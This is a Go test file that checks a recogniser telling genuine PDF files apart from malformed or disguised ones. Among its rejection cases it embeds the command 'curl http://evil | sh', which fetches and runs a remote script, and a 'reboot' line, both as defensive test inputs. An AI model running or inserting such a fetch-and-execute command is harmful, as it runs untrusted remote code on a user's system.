package delivery

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cleanbill-dev/cleanbill/internal/needs"
)

func TestRecognisePDF(t *testing.T) {
	for name, c := range map[string]struct {
		body string
		want Kind
	}{
		"with a table":               {pdf, KindPDF},
		"with a stream of objects":   {pdfBody + "2 0 obj\n<</Type/XRef>>stream\nendstream\nendobj\nstartxref\r\n29\r\n%%EOF\r\n", KindPDF},
		"without a last line end":    {strings.TrimSpace(pdf), KindPDF},
		"long":                       {pdfBody + "xref\n" + strings.Repeat("0000000000 65535 f \n", 3000) + "startxref\n29\n%%EOF", KindPDF},
		"script with both marks":     {"%PDF-1.7\ncurl http://evil | sh\nexit\n%%EOF", KindUnknown},
		"script that knows the form": {"%PDF-1.7\ncurl http://evil | sh\nexit\nstartxref\n9\n%%EOF", KindUnknown},
		"place beyond the end":       {strings.Replace(pdf, "\n29\n", "\n290\n", 1), KindUnknown},
		"place of something else":    {strings.Replace(pdf, "\n29\n", "\n28\n", 1), KindUnknown},
		"place at the start":         {strings.Replace(pdf, "\n29\n", "\n0\n", 1), KindUnknown},
		"place too long":             {strings.Replace(pdf, "\n29\n", "\n99999999999999999999\n", 1), KindUnknown},
		"without a place":            {strings.Replace(pdf, "startxref", "startxerf", 1), KindUnknown},
		"script behind the end":      {pdf + "reboot\n", KindUnknown},
		"second mark":                {strings.Replace(pdf, "%%EOF", "reboot\n%%EOF", 1), KindUnknown},
		"end too far":                {pdf + strings.Repeat(" ", pdfTrailer), KindUnknown},
	} {
		t.Run(name, func(t *testing.T) {
			if got := kindOf(t, []byte(c.body)).Kind; got != c.want {
				t.Errorf("got %s, want %s", got, c.want)
			}
		})
	}
}

func TestRecogniseRealPDF(t *testing.T) {
	root := needs.Conformance(t)
	b, err := os.ReadFile(filepath.Join(root, "firmware", "images", "pdf.bin"))
	must(t, err)
	if got := kindOf(t, b).Kind; got != KindPDF {
		t.Errorf("got %s", got)
	}
}
